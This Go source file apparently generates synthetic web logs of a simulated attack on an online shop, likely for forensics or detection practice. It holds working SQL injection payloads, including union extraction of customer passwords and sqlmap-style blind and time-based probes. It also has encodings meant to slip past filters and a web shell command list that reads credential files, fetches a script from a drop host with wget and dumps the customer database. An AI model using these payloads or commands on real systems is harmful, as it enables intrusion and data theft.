package scenario

import (
	"strconv"
	"strings"
)

// Injections tried by hand, on the search, before the tool takes over.
var handInjections = []string{"'", "''", "1'--", "lamp' or '1'='1", "lamp' or 1=1-- -", "lamp' order by 5-- -", "lamp' order by 12-- -",
	"x' union select 1,2,3,4,5-- -", "x' union select 1,version(),user(),database(),5-- -",
	"x' union select 1,table_name,3,4,5 from information_schema.tables-- -",
	"x' union select 1,concat(email,0x3a,password),3,4,5 from customers limit 10-- -"}

// What the tool sends; # stands for a number.
var toolInjections = []string{"# AND 4#1=4#1", "# AND 4#1=5#2", "#) AND 7#3=7#3 AND (8#1=8#1", "#' AND 9#2=9#2 AND 'qZ#'='qZ#",
	"# ORDER BY #", "# UNION ALL SELECT NULL,NULL,NULL#", "# UNION ALL SELECT NULL,CONCAT(0x71#7671,0x4b#5a,0x71#6a71),NULL-- -",
	"# AND SLEEP(5)", "#;SELECT SLEEP(5)#", "# AND (SELECT 6#4 FROM (SELECT(SLEEP(5)))Ux#k)", "#' AND EXTRACTVALUE(4#9,CONCAT(0x5c,0x71#,(SELECT (ELT(4#9=4#9,1)))))-- x",
	"(SELECT CONCAT(0x7178#,(SELECT (ELT(3#1=3#1,1))),0x71))", "#) RLIKE (SELECT (CASE WHEN (2#=2#) THEN # ELSE 0x28 END))-- w",
	"-# UNION ALL SELECT NULL,CHAR(113)+CHAR(#)+CHAR(120),NULL FROM information_schema.columns-- -",
	"# AND ORD(MID((SELECT IFNULL(CAST(password AS CHAR),0x20) FROM shop.customers ORDER BY id LIMIT #,1),#,1))>#"}

// inject: SQL in the search by hand, then a tool on the stock service and the search.
func (in *intruder) inject(r *rng) {
	g := in.g
	q := request{t: in.at(2, 16), ip: in.scanners[0], method: "GET", kind: injection, http2: true, agent: noiseAgents[8]}
	for _, text := range handInjections {
		q.t += r.between(8*second, 45*second)
		q.status, q.size = 200, r.logNormal(9_000, one/2)
		if strings.Count(text, "'")%2 == 1 && !strings.Contains(text, "--") {
			q.status, q.size = 500, 612
		}
		g.get(&q, "/search?q="+percent(text, ""))
	}
	n := in.flood(140)
	for i := range n {
		q = request{t: in.at(2, 24) + int64(i)*15*minute/int64(n) + r.between(0, 800_000), ip: in.scanners[0], method: "GET",
			kind: injection, agent: "sqlmap/1.8.2#stable (https://sqlmap.org)", status: 200, size: 68}
		if i%3 == 0 {
			q.agent = noiseAgents[8]
		}
		if r.chance(300) {
			q.status, q.size = 500, 612
		}
		text := fill(r, r.oneOf(toolInjections))
		path := "/api/v1/stock?id="
		if r.chance(300) {
			path, text = "/search?q=", things[r.n(len(things))]+"' "+text
		}
		g.get(&q, path+disguise(r, text))
	}
}

// fill puts numbers for #.
func fill(r *rng, s string) string {
	var b strings.Builder
	for _, c := range s {
		if c == '#' {
			b.WriteString(strconv.Itoa(10 + r.n(190)))
		} else {
			b.WriteRune(c)
		}
	}
	return b.String()
}

// disguise encodes an injection in one of the ways that get past simple filters.
func disguise(r *rng, s string) string {
	switch r.n(7) {
	case 0:
		return percent(s, "()=,")
	case 1:
		return strings.ReplaceAll(percent(s, ""), "%20", "+")
	case 2:
		return strings.ReplaceAll(percent(s, ""), "%", "%25") // encoded twice
	case 3:
		return percent(strings.ReplaceAll(s, " ", "/**/"), "/*()")
	case 4:
		b := []byte(s)
		for i, c := range b {
			if (c|32) >= 'a' && (c|32) <= 'z' && r.chance(500) {
				b[i] ^= 32
			}
		}
		return percent(string(b), "")
	case 5:
		return strings.ReplaceAll(percent(s, ""), "%", "%u00")
	}
	return strings.ReplaceAll(percent(s, ""), "%20", "%0a")
}

// percent encodes all but letters, digits, -._ and what keep names.
func percent(s, keep string) string {
	var b strings.Builder
	for i := range len(s) {
		c := s[i]
		if c|32 >= 'a' && c|32 <= 'z' || c >= '0' && c <= '9' || strings.IndexByte("-._"+keep, c) >= 0 {
			b.WriteByte(c)
			continue
		}
		b.WriteByte('%')
		b.WriteByte("0123456789ABCDEF"[c>>4])
		b.WriteByte("0123456789ABCDEF"[c&15])
	}
	return b.String()
}

var shellCommands = []string{"id", "uname -a", "whoami; hostname", "cat /etc/passwd", "ls -la /srv/shop/current", "cat /srv/shop/current/.env",
	"ps aux", "ip addr", "netstat -tlnp", "find / -perm -4000 -type f 2>/dev/null", "cat /home/deploy/.bash_history",
	"ls -la /home/*/.ssh", "for i in $(seq 1 30); do ping -c1 -W1 10.0.2.$i; done", "wget -q http://%/l.sh -O /tmp/.l", "chmod +x /tmp/.l",
	"mysql -ushop -p'Kw9!x' -e 'show databases'", "mysqldump -ushop -p'Kw9!x' shop customers orders | gzip > /tmp/.d.gz",
	"cp /tmp/.d.gz /srv/shop/shared/uploads/reviews/", "ls -la /srv/shop/shared/uploads/reviews | tail", "rm /tmp/.d.gz", "w", "date"}

// shell: the upload of reviews' pictures takes a PHP file, which then runs commands.
func (in *intruder) shell(r *rng) {
	g := in.g
	q := request{t: in.at(2, 42), ip: in.scanners[0], method: "GET", kind: shell, http2: true, agent: noiseAgents[8], status: 200, size: 8_801}
	g.get(&q, "/reviews?id=132")
	for _, status := range []int{415, 415, 200} { // .php, .phtml, and .php that calls itself a picture
		q.t += r.between(20*second, 50*second)
		q.method, q.status, q.size = "POST", status, 96
		g.get(&q, "/reviews/upload")
	}
	q.t += 4 * second
	q.method, q.status, q.size = "GET", 200, 0
	g.get(&q, in.upload)
	for i, c := range shellCommands {
		q.t += r.between(30*second, 200*second)
		q.method, q.status, q.size = "GET", 200, r.logNormal(700, 2*one)
		text := percent(strings.ReplaceAll(c, "%", in.g.ipText(in.drop.addrs[0])), "/")
		switch {
		case i%5 == 4: // the command is in the body
			q.method = "POST"
			g.get(&q, in.upload)
		case i%5 == 3:
			g.get(&q, in.upload+"?cmd="+strings.ReplaceAll(text, "%20", "+"))
		default:
			g.get(&q, in.upload+"?cmd="+text)
		}
	}
}
